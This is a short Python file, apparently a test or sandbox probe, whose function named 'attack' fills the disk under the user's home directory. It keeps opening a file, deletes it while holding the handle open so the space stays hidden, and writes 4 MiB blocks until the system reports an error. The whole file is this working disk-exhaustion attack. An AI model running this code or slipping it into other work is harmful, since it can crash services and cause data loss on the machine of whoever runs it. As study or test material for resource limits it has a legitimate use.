import os
import time


HOME = os.environ["HOME"]


def attack(context):
    kept, written = [], 0
    try:
        while True:
            kept.append(open(f"{HOME}/x", "wb", 0))
            os.unlink(f"{HOME}/x")
            written += kept[-1].write(bytes(4 << 20))
    except OSError:
        return written >> 20
